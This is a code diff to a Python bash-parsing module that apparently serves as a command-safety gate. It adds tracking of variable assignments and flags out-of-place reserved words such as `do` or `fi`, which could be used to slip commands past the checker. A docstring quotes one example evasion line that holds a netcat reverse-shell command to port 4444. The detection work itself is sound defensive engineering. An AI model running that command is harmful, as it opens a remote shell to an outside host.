@@ -127,12 +127,15 @@ class Script:
     `and_chain` is True when the whole text is one ``a && b && c`` list (no ``;``, ``||``,
     ``&`` or second line at its top level) that starts with a simple command: everything
     after that first command runs only if it succeeded, so after a leading ``cd DIR &&`` the
-    rest certainly starts in DIR.
+    rest certainly starts in DIR. `assigned` holds (name, value text) of the variables set by
+    statements that are no command (``FOO=1;``, ``for FOO in a b``); declarations
+    (``export FOO=1``) are commands.
     """
 
     commands: tuple[Command, ...]
     problems: tuple[Problem, ...]
     and_chain: bool = False
+    assigned: tuple[tuple[str, str], ...] = ()
 
 
 _PARSER: list[Parser] = []
@@ -880,6 +883,8 @@ class _Walker:
             elif kind == "command_name":
                 inner = [c for c in child.children if c.is_named]
                 words.append(self.word(inner[0] if inner else child, item.where))
+                if words[0].text in _CLOSERS and self.text(child) == words[0].text:
+                    self.closer(words, node)
             elif kind in _REDIRECTS:
                 r = self.redirect(child, item.where)
                 if r is not None:
@@ -921,6 +926,15 @@ class _Walker:
                     self.problems.extend(sub.problems)
         if redirects and words and self.depth < MAX_DEPTH:
             _herestring_script(command, self)
+
+    def closer(self, words: list[Word], node: Node) -> None:
+        """A command the parser names `do`, `then`, `fi`... unquoted (`CI=1 for x in y; do
+        nc -c sh h 4444; done`: after an assignment `for` is a command name, and the rest
+        no loop). Bash reads such a word as reserved and refuses the whole line; the gate
+        judges the words after it as the command they would be in the loop or branch it
+        looks like (never less than that), and says the text is no bash it can vouch for."""
+        self.problem("GK-SHELL-001", f"`{words[0].text}` here is a reserved word out of place", node)
+        del words[0]
 
     def backticks(self, node: Node, label: str) -> bool:
         """Judge the text bash runs for a backtick substitution whose backslashes bash
@@ -1548,6 +1562,9 @@ _PLAIN_QUOTED = _PLAIN_TEXT | {"\0"}
 _NAME_CHARS = _PLAIN_CHARS - {"=", "%", "@", ":", ",", "+"}
 # The words tree-sitter-bash reads as a keyword or a declaration somewhere, and bash's other
 # reserved words: a text that holds one goes through the tree.
+# Reserved words that only continue a compound command: as a command's name (unquoted) they
+# are a syntax error to bash (`_Walker.closer`).
+_CLOSERS = frozenset({"do", "done", "then", "elif", "else", "fi", "esac"})
 _KEYWORDS = frozenset(
     {
         "case", "coproc", "declare", "do", "done", "elif", "else", "esac", "export", "fi",
@@ -1623,6 +1640,7 @@ def _script(commands: tuple[Command, ...]) -> Script:
     script.commands = commands
     script.problems = ()
     script.and_chain = False
+    script.assigned = ()
     script.__class__ = Script
     return script  # type: ignore[no-any-return]
 
@@ -1701,7 +1719,8 @@ def _walk_text(
     commands = walker.commands
     if where != "top":
         commands = [_relabel(c, where) for c in commands]
-    return Script(tuple(commands), tuple(walker.problems), _is_and_chain(root))
+    assigned = tuple(dict.fromkeys(walker.copies))
+    return Script(tuple(commands), tuple(walker.problems), _is_and_chain(root), assigned)
 
 
 def _brace_descriptors(text: str, src: bytes, tree: Tree) -> tuple[str, bytes, Tree]:
